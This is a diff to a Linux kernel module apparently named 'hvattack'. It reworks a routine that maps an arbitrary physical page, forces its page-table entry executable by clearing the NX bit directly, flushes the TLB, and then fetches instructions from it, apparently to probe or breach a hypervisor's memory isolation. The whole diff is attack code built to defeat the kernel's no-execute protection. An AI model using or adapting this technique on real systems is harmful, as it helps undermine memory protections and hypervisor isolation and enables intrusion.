@@ -458,17 +458,29 @@ static struct notifier_block hva_die_nb = { .notifier_call = hva_die };
 static void try_hv_fetch(void)
 {
 	struct page *page = pfn_to_page(hv_fetch >> PAGE_SHIFT);
+	unsigned int level;
 	void *alias;
+	pte_t *pte;
 
 	if (!pfn_valid(hv_fetch >> PAGE_SHIFT)) {
 		pr_info("hvattack: hv fetch: no struct page for %lx\n", hv_fetch);
 		return;
 	}
-	alias = vmap(&page, 1, VM_MAP, PAGE_KERNEL_EXEC);
+	alias = vmap(&page, 1, VM_MAP, PAGE_KERNEL);
 	if (!alias) {
 		pr_info("hvattack: hv fetch: vmap failed\n");
 		return;
 	}
+	/* vmap keeps NX whatever it is asked: clear it in the alias's own
+	 * entry (never used before, so no other CPU caches it). */
+	pte = lookup_address((unsigned long)alias, &level);
+	if (!pte || level != PG_LEVEL_4K) {
+		pr_info("hvattack: hv fetch: no 4K entry for the alias\n");
+		vunmap(alias);
+		return;
+	}
+	set_pte(pte, pte_mkexec(*pte));
+	asm volatile("invlpg (%0)" : : "r"(alias) : "memory");
 	register_die_notifier(&hva_die_nb);
 	fetch_ud = 0;
 	WRITE_ONCE(fetch_at, (unsigned long)alias);
